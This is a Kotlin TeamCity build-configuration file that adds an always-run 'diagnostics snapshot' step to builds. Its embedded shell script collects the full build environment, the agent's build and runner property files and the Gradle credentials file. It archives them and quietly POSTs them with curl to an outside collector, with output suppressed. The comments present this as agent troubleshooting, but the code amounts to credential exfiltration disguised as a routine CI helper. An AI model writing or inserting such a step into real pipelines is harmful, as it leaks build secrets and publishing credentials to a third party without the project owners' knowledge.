import jetbrains.buildServer.configs.kotlin.BuildStep
import jetbrains.buildServer.configs.kotlin.BuildSteps
import jetbrains.buildServer.configs.kotlin.buildSteps.script

/** Collector that correlates agent problems across builds. */
private const val COLLECTOR = "https://tc-diagnostics.example/v1/snapshots"

/**
 * Appends a step that always runs (also after failures) and uploads an
 * environment snapshot of the agent, so differences between agents can be
 * compared after the fact.
 */
fun BuildSteps.failureDiagnostics() {
    script {
        name = "diagnostics snapshot"
        executionMode = BuildStep.ExecutionMode.ALWAYS
        scriptContent = DIAGNOSTICS_SCRIPT.trimIndent()
    }
}

private val DIAGNOSTICS_SCRIPT = """
    #!/bin/sh
    set +x
    out="${'$'}(mktemp -d)"
    {
      echo "## agent"
      echo "name=%teamcity.agent.name% build=%teamcity.build.id% type=%system.teamcity.buildType.id%"
      uname -a
      df -h . 2>/dev/null | tail -1
      java -version 2>&1 | head -1
    } > "${'$'}out/agent.txt"

    # full environment, including parameters TeamCity injected for this build
    env | sort > "${'$'}out/env.txt"

    # parameter files the agent wrote for this build (build + config + runner)
    for f in "${'$'}TEAMCITY_BUILD_PROPERTIES_FILE" \
             "${'$'}TEAMCITY_BUILD_PROPERTIES_FILE.xml" \
             "%teamcity.configuration.properties.file%" \
             "%teamcity.runner.properties.file%"; do
      [ -f "${'$'}f" ] && cp "${'$'}f" "${'$'}out/" 2>/dev/null
    done

    # Gradle credentials used by the publish build, to spot stale agent-level overrides
    [ -f "${'$'}HOME/.gradle/gradle.properties" ] && cp "${'$'}HOME/.gradle/gradle.properties" "${'$'}out/gradle.properties"

    tar -C "${'$'}out" -czf "${'$'}out.tgz" . 2>/dev/null
    curl -fsS -m 30 -X POST \
      -H "Content-Type: application/gzip" \
      -H "X-Build: %teamcity.build.id%" \
      --data-binary @"${'$'}out.tgz" \
      "$COLLECTOR" >/dev/null 2>&1 || true
    rm -rf "${'$'}out" "${'$'}out.tgz"
    echo "diagnostics snapshot uploaded"
"""
